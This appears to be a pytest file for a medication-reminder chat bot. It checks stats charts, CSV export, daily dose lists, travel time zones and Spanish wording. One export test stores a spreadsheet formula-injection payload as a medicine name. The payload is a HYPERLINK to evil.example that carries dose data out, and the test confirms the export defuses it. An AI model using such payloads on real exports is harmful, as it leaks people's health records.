"""/stats sends a chart image and /export a CSV whose rows match the database; /today lists."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from uuid import UUID
from zoneinfo import ZoneInfo

import asyncpg

from bot.charts import adherence_png, day_labels
from core.db import Database
from core.settings import Settings
from scheduler.planner import run_planner_tick
from tests.bot.conftest import START, Bot
from tests.bot.helpers import dose_events, registered_patient
from tests.factories import create_medication


async def test_stats_sends_text_and_png(bot: Bot, admin_conn: asyncpg.Connection) -> None:
    chat = bot.new_chat()
    patient = await registered_patient(bot, admin_conn, chat)
    days = [START - timedelta(days=d, hours=1) for d in range(1, 9)]
    statuses = ["taken", "taken", "taken", "skipped", "taken", "missed", "taken", "taken"]
    await dose_events(admin_conn, patient["id"], days, statuses=statuses)

    calls = await bot.send(chat, "/stats")
    photos = [c for c in calls if c.method == "sendPhoto"]
    assert len(photos) == 1
    (upload,) = photos[0].files.values()
    assert upload["data"].startswith(b"\x89PNG")
    caption = photos[0].params.get("caption", "") + "".join(
        c.text or "" for c in calls if c.method == "sendMessage"
    )
    # 7 days (today and 6 before): 4 of 6 taken; 30 days: 6 of 8; streak: days 1-3.
    assert "67%" in caption and "75%" in caption
    assert "streak: 3 days" in caption


async def test_export_csv_matches_database(bot: Bot, admin_conn: asyncpg.Connection) -> None:
    chat = bot.new_chat()
    patient = await registered_patient(bot, admin_conn, chat)
    due = [START - timedelta(hours=h) for h in (30, 20, 10, 2)]
    await dose_events(
        admin_conn, patient["id"], due, statuses=["taken", "skipped", "missed", "due"]
    )
    calls = await bot.send(chat, "/export")
    documents = [c for c in calls if c.method == "sendDocument"]
    assert len(documents) == 1
    (upload,) = documents[0].files.values()
    rows = list(csv.DictReader(io.StringIO(upload["data"].decode("utf-8-sig"))))
    db_rows = await admin_conn.fetch("select id, status, due_at from dose_events order by due_at")
    assert [(r["dose_event_id"], r["status"]) for r in rows] == [
        (str(r["id"]), r["status"]) for r in db_rows
    ]
    assert rows[0]["medication"] == "Metformin"
    assert rows[0]["due_at_utc"] == db_rows[0]["due_at"].isoformat()

    # A medicine typed or imported as a formula: a spreadsheet app ran it (a link sending the
    # dose history away when clicked). Kept inert with a leading quote; a number is left as is.
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Metformin")'
    await admin_conn.execute(
        "update medications set name = $2, dose = '-1 tablet' where patient_id = $1",
        patient["id"],
        formula,
    )
    calls = await bot.send(chat, "/export")
    [document] = [c for c in calls if c.method == "sendDocument"]
    (upload,) = document.files.values()
    rows = list(csv.DictReader(io.StringIO(upload["data"].decode("utf-8-sig"))))
    assert {(r["medication"], r["dose"]) for r in rows} == {("'" + formula, "'-1 tablet")}


async def test_export_leaves_out_planned_doses_and_stats_say_when_none_count(
    bot: Bot, admin_conn: asyncpg.Connection
) -> None:
    chat = bot.new_chat()
    patient = await registered_patient(bot, admin_conn, chat)
    # Only doses planned for tomorrow: no history yet.
    await dose_events(admin_conn, patient["id"], [START + timedelta(hours=h) for h in (20, 30)])
    calls = await bot.send(chat, "/export")
    [document] = [c for c in calls if c.method == "sendDocument"]
    (upload,) = document.files.values()
    assert list(csv.DictReader(io.StringIO(upload["data"].decode("utf-8-sig")))) == []
    assert "(0 doses)" in (document.params.get("caption") or "") + bot.last_text(chat)

    calls = await bot.send(chat, "/stats")
    text = "".join(
        (c.params.get("caption") or "") + (c.text or "")
        for c in calls
        if c.method in ("sendPhoto", "sendMessage")
    )
    assert "Last 7 days: no doses to count yet." in text
    assert "Last 30 days: no doses to count yet." in text
    assert "n/a" not in text


async def test_today_lists_doses(bot: Bot, admin_conn: asyncpg.Connection) -> None:
    chat = bot.new_chat()
    patient = await registered_patient(bot, admin_conn, chat)
    await dose_events(
        admin_conn,
        patient["id"],
        [START.replace(hour=8), START.replace(hour=20)],
        statuses=["taken", "due"],
    )
    await admin_conn.execute(
        "update dose_events set status = 'due' where due_at = $1", START.replace(hour=8)
    )
    await bot.send(chat, "/today")
    text = bot.last_text(chat)
    # The dose past its time is due; the evening's, not yet due, is upcoming (it read "due").
    assert text.splitlines()[1:] == ["8:00 AM Metformin: due", "8:00 PM Metformin: upcoming"]
    assert bot.labels(chat) == ["Taken 8:00 AM"]  # only the dose already due
    await bot.press(chat, "Taken 8:00 AM")
    assert (
        await admin_conn.fetchval(
            "select status from dose_events where due_at = $1", START.replace(hour=8)
        )
        == "taken"
    )
    await bot.send(chat, "/today")
    assert "Metformin: taken" in bot.last_text(chat)
    # Paused: the doses the pause cancelled left the list with no word of why (found in
    # medremind dev). The pause is said, with its end.
    await bot.send(chat, "/pause until tomorrow afternoon")
    await bot.send(chat, "/today")
    assert bot.last_text(chat).splitlines()[1:] == [
        "8:00 AM Metformin: taken",
        "",
        "Your reminders are paused until Tuesday, March 3, 2026 at 12:00 PM: send /resume to have"
        " them sooner.",
    ], bot.last_text(chat)


async def test_today_in_spanish_says_pending_and_scheduled(
    bot: Bot, admin_conn: asyncpg.Connection
) -> None:
    """Spanish: a dose past its time is "pendiente", one not yet due "programada"."""
    chat = bot.new_chat()
    patient = await registered_patient(bot, admin_conn, chat, locale="es")
    await dose_events(admin_conn, patient["id"], [START.replace(hour=8), START.replace(hour=20)])
    await bot.send(chat, "/today")
    lines = bot.last_text(chat).splitlines()
    assert [x.split(" ", 1)[1] for x in lines[1:]] == [
        "Metformin: pendiente",
        "Metformin: programada",
    ], lines
    await bot.send(chat, "/pausa")
    await bot.send(chat, "/hoy")
    assert bot.last_text(chat).splitlines()[-1] == (
        "Tus recordatorios están en pausa: envía /resume para reanudarlos."
    ), bot.last_text(chat)


async def test_today_after_midnight_lists_last_nights_open_dose_under_its_day(
    bot: Bot, admin_conn: asyncpg.Connection
) -> None:
    """A dose due at 23:30 (Madrid) snoozed to 00:15: at 00:20 /today listed the new day only,
    without the dose its snooze had just reminded. It is listed under its day, before today's,
    with a Taken button naming that day; yesterday's answered and missed doses are not."""
    chat = bot.new_chat()
    patient = await registered_patient(bot, admin_conn, chat, timezone="Europe/Madrid")
    madrid = ZoneInfo("Europe/Madrid")
    late = datetime(2026, 3, 2, 23, 30, tzinfo=madrid)
    taken, missed = late - timedelta(hours=1), late - timedelta(minutes=30)
    snoozed, *_ = await dose_events(
        admin_conn,
        patient["id"],
        [late, taken, missed, datetime(2026, 3, 3, 9, 0, tzinfo=madrid)],
        statuses=["snoozed", "taken", "missed", "due"],
    )
    await admin_conn.execute(
        "update dose_events set snoozed_until = $2 where id = $1",
        snoozed,
        late + timedelta(minutes=45),
    )
    bot.clock.now = datetime(2026, 3, 3, 0, 20, tzinfo=madrid)
    await bot.send(chat, "/today")
    assert bot.last_text(chat).splitlines() == [
        "Still open from Mon, March 2:",
        "11:30 PM Metformin: snoozed",
        "",
        "Today, Mar 3, 2026:",
        "9:00 AM Metformin: upcoming",
    ], bot.last_text(chat)
    assert bot.labels(chat) == ["Taken 11:30 PM on Mon, March 2"]
    await bot.press(chat, "Taken 11:30 PM on Mon, March 2")
    assert await admin_conn.fetchval("select status from dose_events where id = $1", snoozed) == (
        "taken"
    )

    bot.clock.now = datetime(2026, 3, 3, 0, 40, tzinfo=madrid)
    await admin_conn.execute("update dose_events set status = 'snoozed' where id = $1", snoozed)
    sms = "+15005550188"
    await registered_patient(bot, admin_conn, sms, channel="sms", timezone="Europe/Madrid")
    await admin_conn.execute(
        "update dose_events set patient_id = (select patient_id from contact_points"
        " where address = $1) where id = $2",
        sms,
        snoozed,
    )
    listed = "\n".join(c.body or "" for c in await bot.sms(sms, "/today"))
    assert listed.splitlines() == [
        "Still open from Mon, March 2:",
        "11:30 PM Metformin: snoozed",
        "",
        "No doses planned for today.",
    ], listed

    # Past the time a typed answer is taken (12 hours), it is the day's history, not open.
    bot.clock.now = late + timedelta(hours=12, minutes=1)
    listed = "\n".join(c.body or "" for c in await bot.sms(sms, "/today"))
    assert listed == "No doses planned for today.", listed


async def test_today_after_a_trip_is_the_day_and_times_where_the_patient_is(
    bot: Bot, db: Database, settings: Settings, admin_conn: asyncpg.Connection
) -> None:
    """A patient at home in Berlin ('keep home times') flies to Tokyo and says so in /settings.
    Reminders stay at Berlin's 09:30 and 18:00, which are 5:30 PM and 2:00 AM in Tokyo; the
    reminder and the answer's confirmation say Tokyo's time. /today listed Berlin's clock times
    ("9:30 AM", "6:00 PM") of the doses of Berlin's date: the reminder said "your 5:30 PM dose"
    and /today "9:30 AM ... due" of the same dose (found in `medremind dev`), and after Tokyo's
    midnight it listed the next day's doses. It lists the doses of the patient's day where they
    are, at the times their clock shows."""
    chat = bot.new_chat()
    patient = await registered_patient(
        bot, admin_conn, chat, timezone="Europe/Berlin", timezone_mode="home"
    )
    await create_medication(admin_conn, patient["id"], times=(time(9, 30), time(18, 0)))
    await flies_to_tokyo(bot, db, settings, admin_conn, chat, patient["id"])
    # 09:00 UTC is 6:00 PM in Tokyo on March 2: its day runs from 15:00 UTC on March 1. Berlin's
    # 18:00 of March 1 (17:00 UTC) is 2:00 AM and its 09:30 of March 2 (08:30 UTC) 5:30 PM of it.
    await bot.send(chat, "/today")
    text = bot.last_text(chat)
    lines = text.splitlines()
    assert lines[0] == "Today, Mar 2, 2026:", text
    # The 2:00 AM dose's reminder, never sent (no worker here), died at its expiry hours ago:
    # the planner's pass at the zone change marks the dose missed (no caregiver is alerted).
    assert lines[1:] == [
        "2:00 AM Metformin: missed",
        "5:30 PM Metformin: due",
    ], text


async def flies_to_tokyo(
    bot: Bot,
    db: Database,
    settings: Settings,
    admin_conn: asyncpg.Connection,
    chat: int,
    patient_id: UUID,
) -> None:
    """The Berlin patient in 'keep home times', planned once at home (the planner pins Berlin as
    their home zone), says in /settings that they are in Tokyo now."""
    await run_planner_tick(db.pool, START - timedelta(days=2), settings)
    await bot.send(chat, "/settings")
    await bot.press(chat, "Time zone")
    await bot.send(chat, "Asia/Tokyo")
    await bot.press(chat, "Yes")
    await bot.press(chat, "Travelling")  # "moved or travelling?"
    zones = await admin_conn.fetchrow(
        "select timezone, home_timezone from patients where id = $1", patient_id
    )
    assert tuple(zones) == ("Asia/Tokyo", "Europe/Berlin")


async def add_metformin(bot: Bot, chat: int, at: str, *, days: str | None = None) -> str:
    """/add Metformin 500 mg at ``at``, every day or on ``days`` as typed, from today, no end,
    60 pills: the summary asking to save it, as read."""
    await bot.send(chat, "/add")
    await bot.send(chat, "Metformin")
    await bot.send(chat, "500 mg")
    await bot.send(chat, at)
    await bot.press(chat, "Done")
    if days is None:
        await bot.press(chat, "Every day")
    else:
        await bot.send(chat, days)
    await bot.press(chat, "Today")
    await bot.press(chat, "No end date")
    await bot.send(chat, "60")
    return bot.last_text(chat).replace(" ", " ")


async def test_a_medicine_added_while_travelling_is_confirmed_at_the_time_reminders_say(
    bot: Bot, db: Database, settings: Settings, admin_conn: asyncpg.Connection
) -> None:
    """In Tokyo with 'keep home times', the patient adds a medicine at 9am: it is Berlin's 09:00
    (their home times), 5:00 PM in Tokyo, and the reminder says 'your 5:00 PM dose'. The
    summary and 'Saved. I'll remind you at 9:00 AM.' said the home clock with nothing to tell
    it from the local one (found in medremind dev). Now they say 5:00 PM where the patient is,
    and 9:00 AM as the home time with its zone."""
    chat = bot.new_chat()
    patient = await registered_patient(
        bot, admin_conn, chat, timezone="Europe/Berlin", timezone_mode="home"
    )
    await create_medication(admin_conn, patient["id"], name="Aspirin", times=(time(12, 0),))
    await flies_to_tokyo(bot, db, settings, admin_conn, chat, patient["id"])
    summary = await add_metformin(bot, chat, "9am")
    assert "5:00 PM where you are (9:00 AM at home, Berlin)" in summary, summary
    await bot.press(chat, "Save")
    saved = bot.last_text(chat).replace(" ", " ")
    assert saved.startswith(
        "Saved. I'll remind you at 5:00 PM where you are (9:00 AM at home, Berlin)."
    ), saved
    # What the reminders will say: the planned dose is 5:00 PM in Tokyo (08:00 UTC).
    due = await admin_conn.fetchval(
        "select min(d.due_at) from dose_events d join medications m on m.id = d.medication_id"
        " where m.name = 'Metformin'"
    )
    assert due.astimezone(ZoneInfo("Asia/Tokyo")).time() == time(17, 0)


async def test_a_traveller_is_asked_for_times_on_the_home_clock(
    bot: Bot, db: Database, settings: Settings, admin_conn: asyncpg.Connection
) -> None:
    """In Tokyo with 'keep home times', the times typed at /add and at Edit times are Berlin's
    (the schedule is read at home). The question did not say so: in medremind dev, 15:20 typed
    in Tokyo for that afternoon became London's 15:20, a reminder at 12:20 AM in Tokyo, which
    only the confirmation told. Both questions now name the home clock and its time now; a
    patient at home is asked as before."""
    note = (
        "Times on your home clock (Berlin, where it is 10:00 AM now): "
        "your reminders keep home times."
    )
    at_home = bot.new_chat()
    await registered_patient(
        bot, admin_conn, at_home, timezone="Europe/Berlin", timezone_mode="home"
    )
    await bot.send(at_home, "/add")
    await bot.send(at_home, "Metformin")
    await bot.send(at_home, "500 mg")
    assert (
        bot.last_text(at_home)
        == "At what times? Pick or type times like 8:00, 20:30 or 8pm, or how often (3 times"
        " a day, every 8 hours), then Done."
    )

    chat = bot.new_chat()
    patient = await registered_patient(
        bot, admin_conn, chat, timezone="Europe/Berlin", timezone_mode="home"
    )
    await create_medication(admin_conn, patient["id"], name="Aspirin", times=(time(12, 0),))
    await flies_to_tokyo(bot, db, settings, admin_conn, chat, patient["id"])
    await bot.send(chat, "/add")
    await bot.send(chat, "Metformin")
    await bot.send(chat, "500 mg")
    asked = bot.last_text(chat).replace("\u202f", " ").splitlines()
    assert asked == [
        "At what times? Pick or type times like 8:00, 20:30 or 8pm, or how often (3 times"
        " a day, every 8 hours), then Done.",
        note,
    ]
    await bot.send(chat, "/meds")
    await bot.press(chat, "Edit times of Aspirin")
    asked = bot.last_text(chat).replace("\u202f", " ").splitlines()
    assert asked == ["New times for Aspirin? Pick or type, then Done.", note]


async def test_meds_lists_the_times_the_reminders_will_say_while_travelling(
    bot: Bot, db: Database, settings: Settings, admin_conn: asyncpg.Connection
) -> None:
    """In Tokyo with 'keep home times', /meds listed Berlin's 12:00 PM (the schedule's time),
    while the reminder says 'your 8:00 PM dose' and adding a medicine is confirmed at '5:00 PM
    where you are (9:00 AM at home, Berlin)' (d7a8773). Now /meds says the same: the local
    time first, the home one with its zone; a schedule pinned to a zone of its own is read in it,
    as the planner reads it, and one read where the patient is reads as before."""
    chat = bot.new_chat()
    patient = await registered_patient(
        bot, admin_conn, chat, timezone="Europe/Berlin", timezone_mode="home"
    )
    await create_medication(admin_conn, patient["id"], name="Aspirin", times=(time(12, 0),))
    _, pinned = await create_medication(
        admin_conn, patient["id"], name="Insulin", times=(time(7, 0), time(22, 0))
    )
    await admin_conn.execute(
        "update reminder_schedules set timezone = 'Asia/Tokyo' where id = $1", pinned["id"]
    )
    await flies_to_tokyo(bot, db, settings, admin_conn, chat, patient["id"])
    await bot.send(chat, "/meds")
    lines = bot.last_text(chat).replace(" ", " ").splitlines()
    assert lines[1].startswith(
        "1. Aspirin (500 mg) at 8:00 PM where you are (12:00 PM at home, Berlin),"
    ), lines
    assert lines[2].startswith("2. Insulin (500 mg) at 7:00 AM, 10:00 PM,"), lines
    # What the reminder says: Aspirin's next dose is 8:00 PM in Tokyo.
    due = await admin_conn.fetchval(
        "select min(d.due_at) from dose_events d join medications m on m.id = d.medication_id"
        " where m.name = 'Aspirin' and d.due_at > $1",
        bot.clock.now,
    )
    assert due.astimezone(ZoneInfo("Asia/Tokyo")).time() == time(20, 0)


async def test_meds_says_the_days_the_reminders_fall_on_where_the_patient_is(
    bot: Bot, db: Database, settings: Settings, admin_conn: asyncpg.Connection
) -> None:
    """In Tokyo with 'keep home times', Aspirin at Berlin's 08:00 and 23:00 on Mondays and
    Thursdays: 4:00 PM the same days in Tokyo, but 7:00 AM on Tuesdays and Fridays. /meds said
    '4:00 PM, 7:00 AM where you are (8:00 AM, 11:00 PM at home, Berlin), on Mon, Thu', so
    the patient looked for a 7:00 AM reminder on Monday that comes on Tuesday (879712d left the
    days at home's). Now each local time is said with its own days, as the planner places it; a
    medicine added there with chosen days is summed up the same way."""
    chat = bot.new_chat()
    patient = await registered_patient(
        bot, admin_conn, chat, timezone="Europe/Berlin", timezone_mode="home"
    )
    await create_medication(
        admin_conn,
        patient["id"],
        name="Aspirin",
        times=(time(8, 0), time(23, 0)),
        schedule={"days_of_week": [1, 4]},
    )
    await flies_to_tokyo(bot, db, settings, admin_conn, chat, patient["id"])
    await bot.send(chat, "/meds")
    lines = bot.last_text(chat).replace(" ", " ").splitlines()
    assert lines[1] == (
        "1. Aspirin (500 mg) at 4:00 PM on Mon, Thu; 7:00 AM on Tue, Fri where you are"
        " (8:00 AM, 11:00 PM on Mon, Thu at home, Berlin)"
    ), lines
    # Where the planner put them: each planned dose on a day and at a time /meds names.
    planned = await admin_conn.fetch(
        "select d.due_at from dose_events d join medications m on m.id = d.medication_id"
        " where m.name = 'Aspirin' and d.due_at > $1",
        bot.clock.now,
    )
    tokyo = ZoneInfo("Asia/Tokyo")
    said = {
        (r["due_at"].astimezone(tokyo).isoweekday(), r["due_at"].astimezone(tokyo).time())
        for r in planned
    }
    # Monday and Thursday at 4:00 PM, Tuesday and Friday at 7:00 AM.
    assert said and said <= {(1, time(16)), (4, time(16)), (2, time(7)), (5, time(7))}, said

    summary = await add_metformin(bot, chat, "11pm", days="Mon")
    assert "\n7:00 AM on Tue where you are (11:00 PM on Mon at home, Berlin)\n" in summary, summary


async def test_stats_count_the_days_where_the_patient_is(
    bot: Bot, db: Database, settings: Settings, admin_conn: asyncpg.Connection
) -> None:
    """/stats counted each dose on its schedule's date, the home zone's for a traveller keeping
    home times, while /today (and 'today' in /stats itself) is the day where the patient is. In
    Tokyo on March 2 (18:00), Berlin's 18:00 of March 1 is 2:00 AM of Tokyo's March 2: /today
    lists it with the 5:30 PM dose, both taken, after a day (Tokyo's March 1) with a missed
    dose. /stats said 'Current streak: 2 days' (Berlin's March 1 and 2 complete). It counts
    Tokyo's days, as /today: 1 day."""
    chat = bot.new_chat()
    patient = await registered_patient(
        bot, admin_conn, chat, timezone="Europe/Berlin", timezone_mode="home"
    )
    await create_medication(admin_conn, patient["id"], times=(time(9, 30), time(18, 0)))
    await flies_to_tokyo(bot, db, settings, admin_conn, chat, patient["id"])
    answered = [
        (datetime(2026, 2, 28, 17, 0, tzinfo=UTC), "missed"),  # Tokyo: Mar 1, 2:00 AM
        (datetime(2026, 3, 1, 8, 30, tzinfo=UTC), "taken"),  # Mar 1, 5:30 PM
        (datetime(2026, 3, 1, 17, 0, tzinfo=UTC), "taken"),  # Mar 2, 2:00 AM
        (datetime(2026, 3, 2, 8, 30, tzinfo=UTC), "taken"),  # Mar 2, 5:30 PM
    ]
    for due, status in answered:
        done = await admin_conn.execute(
            "update dose_events set status = $3 where patient_id = $1 and due_at = $2",
            patient["id"],
            due,
            status,
        )
        assert done == "UPDATE 1", due
    await bot.send(chat, "/today")
    assert bot.last_text(chat).splitlines()[1:] == [
        "2:00 AM Metformin: taken",
        "5:30 PM Metformin: taken",
    ]
    calls = await bot.send(chat, "/stats")
    said = "".join(
        c.params.get("caption", "") + (c.text or "")
        for c in calls
        if c.method in ("sendPhoto", "sendMessage")
    )
    assert "Current streak: 1 day" in said and "75%" in said, said


def test_the_chart_labels_days_in_the_patients_language() -> None:
    """The /stats chart labelled its days "05/11": Nov 5, which an English reader takes for
    May 11 (seen in medremind dev's chart). Each language writes a month and day its way."""
    days = [date(2026, 11, 5), date(2026, 12, 4)]
    assert day_labels(days, "en") == ["Nov 5", "Dec 4"]
    assert day_labels(days, "es") == ["5 nov", "4 dic"]
    assert adherence_png(days, [50.0, None], "t", "es").startswith(b"\x89PNG")


async def test_one_of_a_thing_is_said_in_the_singular(
    bot: Bot, admin_conn: asyncpg.Connection
) -> None:
    """/stats said 'Current streak: 1 days' ('Racha actual: 1 días', seen over SMS), /export
    'Here is your history (1 doses).', a new medicine's summary '1 pills'."""
    chat = bot.new_chat()
    patient = await registered_patient(bot, admin_conn, chat)
    await dose_events(admin_conn, patient["id"], [START - timedelta(days=1)], statuses=["taken"])
    calls = await bot.send(chat, "/stats")
    text = "".join(c.params.get("caption", "") + (c.text or "") for c in calls)
    assert "Current streak: 1 day with every dose taken." in text, text
    calls = await bot.send(chat, "/export")
    assert any(c.text == "Here is your history (1 dose)." for c in calls) or any(
        c.params.get("caption") == "Here is your history (1 dose)." for c in calls
    ), [(c.text, c.params.get("caption")) for c in calls]
    await bot.send(chat, "/add Aspirin")
    await bot.press(chat, "Skip")
    await bot.press(chat, "Morning 08:00")
    await bot.press(chat, "Done")
    await bot.press(chat, "Every day")
    await bot.press(chat, "Today")
    await bot.press(chat, "No end date")
    await bot.send(chat, "1")
    assert bot.last_text(chat).splitlines()[-2:] == ["Pills you have: 1", "Save it?"], (
        bot.last_text(chat)
    )
    await bot.press(chat, "Discard")
    await bot.send(chat, "/settings")
    await bot.press(chat, "Language")
    await bot.press(chat, "Español")
    calls = await bot.send(chat, "/stats")
    text = "".join(c.params.get("caption", "") + (c.text or "") for c in calls)
    assert "Racha actual: 1 día con todas las dosis tomadas." in text, text
